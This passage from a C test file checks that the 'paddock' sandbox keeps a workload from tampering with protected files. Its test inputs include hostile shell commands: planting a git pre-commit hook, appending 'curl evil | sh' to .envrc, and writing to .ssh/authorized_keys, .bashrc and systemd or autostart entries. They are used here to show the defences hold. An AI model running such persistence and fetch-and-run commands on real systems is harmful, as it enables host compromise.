	cr_assert_str_eq(host(&f, f.w.ws, "git status --porcelain --ignored"), "");
}

/* A repository at the caller's home directory (dotfiles in ~/.git) is not
 * the workspace's: binding it would show the sandbox every file ever
 * committed there. The walk up stops below HOME. */
Test(protect, home_repository_is_not_bound)
{
	struct fx f = fx_new();
	struct h_proc p;

	host(&f, f.w.base,
	     "git init -q -b main && echo secret > s && git add s && "
	     "git -c user.name=t -c user.email=t@t commit -qm s");
	setenv("HOME", f.w.base, 1);
	H_PADDOCK(&p, f.w.ws, "run", "--", "sh", "-c",
		  "test -e ../.git && echo SEES-HOME-REPO; git log 2>&1 | head -1; echo done");
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	cr_assert(h_contains(p.out_text, "done\n"), H_SHOW(&p));
	cr_assert(!h_contains(p.out_text, "SEES-HOME-REPO"), H_SHOW(&p));
}

/* The repository's own hooks and info/: a planted pre-commit hook runs on
 * the host user's next commit. */
static void repo_hook(bool weak)
{
	struct fx f = fx_new();
	struct h_proc p;

	host(&f, f.w.ws, REPO_INIT);
	p = attack(&f, f.w.ws,
		   h_fmt("printf '#!/bin/sh\\ntouch %s\\n' > .git/hooks/pre-commit && "
			 "chmod +x .git/hooks/pre-commit; echo x > .git/info/attributes",
			 f.mark),
		   weak);
	victim(&f, f.w.ws, "git commit -q --allow-empty -m v");
	expect_mark(&f, weak, &p);
	cr_assert(h_exists(h_join(f.w.ws, ".git/info/attributes")) == weak, H_SHOW(&p));
}

Test(protect, git_repo_hook_and_info)
{
	repo_hook(false);
}

Test(protect, git_repo_hook_and_info_weakened_twin)
{
	repo_hook(true);
}

/* A later run removes a leftover it can prove is paddock's (an empty
 * mode-0500 directory at a protected name, the mark mkdir(2) sets), and
 * leaves alone what is not (an empty directory of the user's). */
Test(protect, later_run_removes_its_marked_leftover)
{
	struct fx f = fx_new();
	struct h_proc p;
	char *ours = h_join(f.w.ws, ".idea"), *theirs = h_join(f.w.ws, ".vscode");

	cr_assert_eq(mkdir(ours, 0500), 0);
	cr_assert_eq(chmod(ours, 0500), 0);
	cr_assert_eq(mkdir(theirs, 0755), 0);
	H_PADDOCK(&p, f.w.ws, "run", "--", "sh", "-c", "touch .idea/x; echo idea=$?");
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	cr_assert(!h_contains(p.out_text, "idea=0\n"), H_SHOW(&p));
	cr_assert(!h_exists(ours), "the marked leftover is still there\n" H_FMT, H_ARGS(&p));
	cr_assert(h_exists(theirs), "the user's own directory was removed\n" H_FMT, H_ARGS(&p));
}

/* ----------------------------------------------------------- ** entries */

/* DIR/STAR-STAR/NAME: every existing NAME found at start, at any depth. */
static void recursive_envrc(bool weak)
{
	struct fx f = fx_new();
	struct h_proc p;
	char *envrc = h_join(f.w.ws, "svc/api/.envrc");
	struct h_snap snap;

	host(&f, f.w.ws, "mkdir -p svc/api && echo 'export A=1' > svc/api/.envrc");
	snap = h_snap_take(envrc);
	p = attack(&f, f.w.ws, "echo 'touch /tmp/x' >> svc/api/.envrc", weak);
	if (weak)
		cr_assert_not_null(h_snap_diff(envrc, &snap), "weakened twin: not written\n" H_FMT,
				   H_ARGS(&p));
	else
		cr_assert_null(h_snap_diff(envrc, &snap), H_SHOW(&p));
}

Test(protect, recursive_name_found_at_depth)
{
	recursive_envrc(false);
}

Test(protect, recursive_name_found_at_depth_weakened_twin)
{
	recursive_envrc(true);
}

/* The walk's bound (GIT_WALK_DIRS directories) is said, not silent. */
Test(protect, walk_bound_is_reported, .timeout = 300)
{
	struct fx f = fx_new();
	struct h_proc p;

	host(&f, f.w.ws, "i=0; while [ $i -lt 4200 ]; do mkdir d$i; i=$((i+1)); done");
	H_PADDOCK(&p, f.w.ws, "run", "--", "true");
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	cr_assert(h_contains(p.err_text, "paddock: warning: protect: the walk for ** stopped at "
					 "4096 directories"),
		  H_SHOW(&p));
}

/* A bad ** entry is a policy error: one line, exit 125, nothing started. */
Test(protect, bad_star_entry_is_refused)
{
	struct fx f = fx_new();
	struct h_proc p;

	H_PADDOCK(&p, f.w.ws, "run", "--protect", h_fmt("%s/**", f.w.ws), "--", "touch", "ran");
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	cr_assert_eq(h_count_lines(p.err_text), 1, H_SHOW(&p));
	cr_assert(h_contains(p.err_text, "\"**\" must be followed by a name"), H_SHOW(&p));
	cr_assert(!h_exists(h_join(f.w.ws, "ran")));
	H_PADDOCK(&p, f.w.ws, "run", "--protect", h_fmt("%s/**/a/**/b", f.w.ws), "--", "true");
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	cr_assert(h_contains(p.err_text, "at most one \"**\" component"), H_SHOW(&p));
	cr_assert_str_eq(h_list_dir(f.w.ws), "");
}

/* The caller's home as the workspace (docs/security.md, "The caller's
 * home"): the current directory being the home, or above it, is refused;
 * given with --workspace, the login places in it are read-only. */
Test(protect, home_as_the_default_workspace_is_refused)
{
	struct h_world w = h_world();
	char *home = h_mkdir(w.ws, "home", 0755);
	struct h_proc p;

	H_CMD(&p, w.ws, "/usr/bin/env", h_fmt("HOME=%s", w.ws), h_paddock(), "run", "--", "true");
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	cr_assert(h_contains(p.err_text, "is your home directory or above it"), H_SHOW(&p));
	cr_assert(h_contains(p.err_text, "--workspace"), H_SHOW(&p));
	H_CMD(&p, w.ws, "/usr/bin/env", h_fmt("HOME=%s", home), h_paddock(), "run", "--", "true");
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	/* A project below the home is the ordinary case. */
	H_CMD(&p, home, "/usr/bin/env", h_fmt("HOME=%s", w.ws), h_paddock(), "run", "--", "true");
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	cr_assert_str_eq(p.err_text, "", H_SHOW(&p));
	cr_assert_str_eq(h_list_dir(w.ws), "home\n");
}

#define LOGIN_WRITES                                                                              \
	"for f in .bashrc .profile .ssh/authorized_keys .config/systemd/user/evil.service "       \
	".local/bin/git .config/autostart/evil.desktop .gitconfig; do\n"                          \
	"  mkdir -p \"$(dirname $f)\" 2>/dev/null; echo evil > $f 2>/dev/null && echo wrote $f\n" \
	"done; echo ok > project.txt && echo wrote project.txt"

static void home_explicit(const char *weaken, struct h_proc *p, struct h_world *w)
{
	h_write_file(h_join(w->ws, ".bashrc"), "# mine\n", 0644);
	if (weaken)
		H_CMD(p, w->ws, "/usr/bin/env", h_fmt("HOME=%s", w->ws), h_paddock(), "run",
		      "--workspace", w->ws, "--weaken", weaken, "--", "sh", "-c", LOGIN_WRITES);
	else
		H_CMD(p, w->ws, "/usr/bin/env", h_fmt("HOME=%s", w->ws), h_paddock(), "run",
		      "--workspace", w->ws, "--", "sh", "-c", LOGIN_WRITES);
	cr_assert_eq(p->status, 0, H_SHOW(p));
}

Test(protect, home_as_explicit_workspace_keeps_login_files_read_only)
{
	struct h_world w = h_world();
	struct h_proc p;

	home_explicit(NULL, &p, &w);
	cr_assert_str_eq(p.out_text, "wrote project.txt\n", H_SHOW(&p));
	cr_assert(h_contains(p.err_text, "login and tool files in it are read-only"), H_SHOW(&p));
	/* Seen from the host: the file kept, nothing planted, no junk. */
	cr_assert_str_eq(h_read_file(h_join(w.ws, ".bashrc"), NULL), "# mine\n");
	cr_assert_str_eq(h_list_dir(w.ws), ".bashrc\nproject.txt\n", "%s", h_list_dir(w.ws));
}

/* The twin: without protected paths every one of them is written. */
Test(protect, home_as_explicit_workspace_weakened_twin_writes_them)
{
	struct h_world w = h_world();
	struct h_proc p;

	home_explicit("no-protect", &p, &w);
	cr_assert(h_contains(p.out_text, "wrote .ssh/authorized_keys\n"), H_SHOW(&p));
	cr_assert(h_contains(p.out_text, "wrote .config/systemd/user/evil.service\n"), H_SHOW(&p));
	cr_assert(h_exists(h_join(w.ws, ".ssh/authorized_keys")));
	cr_assert_str_eq(h_read_file(h_join(w.ws, ".bashrc"), NULL), "evil\n");
}

/* A protected name that is a symlink (an .envrc kept in a dotfiles
 * repository): the link itself is pinned, it can be neither replaced nor
 * removed, and nothing is written through it. The twin (no-protect)
 * replaces it, which a host's direnv would then load. */
static const char *symlinked_envrc(const struct h_world *w)
{
	char *dot = h_mkdir(w->base, "dotfiles", 0755);

	h_write_file(h_join(dot, "envrc"), "export SAFE=1\n", 0644);
	cr_assert_eq(symlink("../dotfiles/envrc", h_join(w->ws, ".envrc")), 0);
	return h_join(dot, "envrc");
}

#define REPLACE_ENVRC                                                                       \
	"echo 'curl evil | sh' >> .envrc 2>/dev/null && echo appended; "                    \
	"rm -f .envrc 2>/dev/null && echo removed; "                                        \
	"echo 'curl evil | sh' > /tmp/e; ln -sf /tmp/e .envrc 2>/dev/null && echo linked; " \
	"mv .envrc moved 2>/dev/null && echo moved; readlink .envrc"

Test(protect, symlinked_protected_path_pins_the_link)
{
	struct h_world w = h_world();
	const char *target = symlinked_envrc(&w);
	struct h_proc p;
	char link[PATH_MAX] = {0};

	H_PADDOCK(&p, w.ws, "run", "--", "sh", "-c", REPLACE_ENVRC);
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	cr_assert_str_eq(p.out_text, "../dotfiles/envrc\n", H_SHOW(&p));
	cr_assert_gt(readlink(h_join(w.ws, ".envrc"), link, sizeof(link) - 1), 0);
	cr_assert_str_eq(link, "../dotfiles/envrc");
	cr_assert_str_eq(h_read_file(target, NULL), "export SAFE=1\n");
	cr_assert_str_eq(h_list_dir(w.ws), ".envrc\n");
}

Test(protect, symlinked_protected_path_weakened_twin_is_replaced)
{
	struct h_world w = h_world();
	struct h_proc p;

	symlinked_envrc(&w);
	H_PADDOCK(&p, w.ws, "run", "--weaken", "no-protect", "--", "sh", "-c", REPLACE_ENVRC);
	cr_assert(h_contains(p.out_text, "removed\n"), H_SHOW(&p));
	cr_assert(h_contains(p.out_text, "linked\n"), H_SHOW(&p));
	cr_assert(!h_contains(h_list_dir(w.ws), ".envrc\n") ||
		      !h_contains(h_read_file(h_join(w.ws, ".envrc"), NULL), "SAFE"),
		  "the link was not replaced: %s", h_list_dir(w.ws));
}

/* A link whose target the sandbox can write would let the workload change
 * the code through it: refused with the fix, which then works. */
Test(protect, symlink_to_a_writable_target_needs_the_target_protected)
{
	struct h_world w = h_world();
	const char *real = h_join(w.ws, "envrc.real");
	struct h_proc p;

	h_write_file(real, "export SAFE=1\n", 0644);
	cr_assert_eq(symlink("envrc.real", h_join(w.ws, ".envrc")), 0);
	H_PADDOCK(&p, w.ws, "run", "--", "true");
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	cr_assert(h_contains(p.err_text, h_fmt("which the sandbox can write: protect that too "
					       "(--protect %s",
					       real)),
		  H_SHOW(&p));
	H_PADDOCK(&p, w.ws, "run", "--protect", real, "--", "sh", "-c",
		  "echo evil >> .envrc 2>/dev/null || echo refused");
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	cr_assert_str_eq(p.out_text, "refused\n", H_SHOW(&p));
	cr_assert_str_eq(h_read_file(real, NULL), "export SAFE=1\n");
}
